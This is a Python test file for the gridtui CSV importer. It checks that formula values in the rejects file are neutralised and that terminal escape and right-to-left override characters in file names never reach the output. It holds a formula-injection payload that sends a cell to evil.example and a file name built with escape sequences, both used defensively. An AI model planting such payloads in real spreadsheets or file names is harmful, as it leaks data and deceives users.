"""`gridtui import … --rejects` (issue 12): a value that a spreadsheet would read as a
formula is written so that it is not one (a leading ', as OWASP recommends)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy.orm import Session, sessionmaker

from gridtui.data.intake.importer import import_file, load_map
from tests.conftest import FIXTURES, NOW

SAMPLE = FIXTURES / "samples" / "hotline12345-sample.csv"
MAP = FIXTURES / "maps" / "hotline12345.toml"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_formulas_in_the_rejects_file_are_not_formulas(
    factory: sessionmaker[Session], tmp_path: Path
) -> None:
    rows = SAMPLE.read_text(encoding="utf-8-sig").splitlines()
    fields = next(csv.reader([rows[1]]))
    fields[0] = FORMULA  # the work-order number
    fields[1] = "@SUM(1+1)"  # the time it was taken: refused
    bad = tmp_path / "export.csv"
    with bad.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([next(csv.reader([rows[0]])), fields])
    rejects = tmp_path / "rejects.csv"
    mapping = load_map(FIXTURES / "maps" / "hotline12345.toml")
    report = import_file(factory, bad, mapping, rejects=rejects, now=NOW)
    assert report.rejected == 1
    with rejects.open(encoding="utf-8", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["external_id"] == "'" + FORMULA, row
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    assert row["line"] == "2" and "HYPERLINK" in row["row"] and "@SUM" in row["reason"]


def test_gridtui_import_output_never_carries_a_name_s_escapes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from gridtui.cli.main import main
    from gridtui.data.storage.db import upgrade

    url = f"sqlite:///{tmp_path}/city.sqlite"
    upgrade(url)
    bad = tmp_path / "x\x1b]0;pwned\x07\u202e\nFORGED.csv"
    bad.write_text("not,a\nwork,order\n", encoding="utf-8")
    code = main(["--db", url, "import", str(bad), "--map", str(MAP)])
    out = capsys.readouterr()
    assert code == 1
    text = out.out + out.err
    assert "x<U+202E>" in text and "\x1b" not in text and "\x07" not in text
    assert "\u202e" not in text
